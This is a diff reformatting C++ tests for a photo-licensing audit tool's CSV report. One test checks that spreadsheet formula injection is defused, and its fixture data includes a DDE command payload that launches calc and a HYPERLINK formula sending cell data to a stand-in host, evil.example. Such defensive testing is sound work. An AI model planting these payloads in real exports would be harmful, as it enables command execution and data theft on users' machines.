@@ -30,27 +30,29 @@ Rows parse_with_python(const std::string& csv) {
   const auto file = dir / "report.csv";
   photoaudit::test::write_text_file(file, csv);
   const auto run = photoaudit::test::run_program(
-      "python3", {"-c",
-                  "import csv,json,sys; "
-                  "print(json.dumps(list(csv.reader(open(sys.argv[1], newline='', encoding='utf-8', errors='strict')))))",
-                  file.string()});
+      "python3",
+      {"-c",
+       "import csv,json,sys; "
+       "print(json.dumps(list(csv.reader(open(sys.argv[1], newline='', encoding='utf-8', errors='strict')))))",
+       file.string()});
   std::filesystem::remove_all(dir);
   INFO(run.err);
   REQUIRE(run.exit_code == 0);
   return nlohmann::json::parse(run.out).get<Rows>();
 }
 
-const std::vector<std::string> kHeader = {"path",    "severity",      "rule",           "message", "credit",
-                                          "organizations", "photographers", "licensor", "contract",
-                                          "license_status", "sha256",  "pdq",      "cluster",  "error"};
+const std::vector<std::string> kHeader = {"path",          "severity",      "rule",     "message",  "credit",
+                                          "organizations", "photographers", "licensor", "contract", "license_status",
+                                          "sha256",        "pdq",           "cluster",  "error"};
 
 }  // namespace
 
 TEST_CASE("CSV report: header, one row per finding, one row for an image without findings", "[csv]") {
   const AuditReport report = photoaudit::test::sample_report(false);
   const std::string csv = csv_of(report);
-  CHECK(csv.starts_with("path,severity,rule,message,credit,organizations,photographers,licensor,contract,"
-                        "license_status,sha256,pdq,cluster,error\r\n"));
+  CHECK(
+      csv.starts_with("path,severity,rule,message,credit,organizations,photographers,licensor,contract,"
+                      "license_status,sha256,pdq,cluster,error\r\n"));
   CHECK(csv.ends_with("\r\n"));
   const Rows rows = parse_with_python(csv);
   REQUIRE_FALSE(rows.empty());
@@ -74,10 +76,11 @@ TEST_CASE("CSV report: header, one row per finding, one row for an image without
   CHECK(parade[0][1] == "error");
   CHECK(parade[0][2] == "license-coverage");
   CHECK(parade[1][1] == "warning");
-  CHECK(parade[1][3] ==
-        "The credit line \"© picture alliance / ASSOCIATED PRESS | Valery Sharifulin\" is not in the required form: the "
-        "contract pa-editorial-2024 with picture alliance requires the form \"{licensor} / {agency}\" (here: \"picture "
-        "alliance / AP\").");
+  CHECK(
+      parade[1][3] ==
+      "The credit line \"© picture alliance / ASSOCIATED PRESS | Valery Sharifulin\" is not in the required form: the "
+      "contract pa-editorial-2024 with picture alliance requires the form \"{licensor} / {agency}\" (here: \"picture "
+      "alliance / AP\").");
   CHECK(parade[2][1] == "info");
   CHECK(parade[0][4] == "© picture alliance / ASSOCIATED PRESS | Valery Sharifulin");
   CHECK(parade[0][5] == "picture-alliance > AP");
@@ -128,15 +131,17 @@ TEST_CASE("CSV report defuses spreadsheet formulas (CSV injection)", "[csv]") {
   image.license.licensor = "\tcmd";
   image.license.contract = "\r=1+1";
   image.error = "=cmd|' /C calc'!A0";
-  image.findings = {{.rule = photoaudit::registry::Rule::kLicenseNone, .severity = Severity::kError, .organization = "@foo"},
-                    {.rule = photoaudit::registry::Rule::kCreditUnparsed, .severity = Severity::kWarning, .embedded_credit = "a=b"}};
+  image.findings = {
+      {.rule = photoaudit::registry::Rule::kLicenseNone, .severity = Severity::kError, .organization = "@foo"},
+      {.rule = photoaudit::registry::Rule::kCreditUnparsed, .severity = Severity::kWarning, .embedded_credit = "a=b"}};
   report.images = {image};
   const Rows rows = parse_with_python(csv_of(report));
   REQUIRE(rows.size() == 3);
   const auto& row = rows[1];
   CHECK(row[0] == "'-2+3.jpg");
-  CHECK(row[3] == "'@foo is in the license registry, but the house has no contract with it: do not publish without a "
-                  "license.");
+  CHECK(row[3] ==
+        "'@foo is in the license registry, but the house has no contract with it: do not publish without a "
+        "license.");
   CHECK(row[4] == "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")");
   CHECK(row[6] == "'+49 40 123; @SUM(A1:A9)");
   CHECK(row[7] == "'\tcmd");
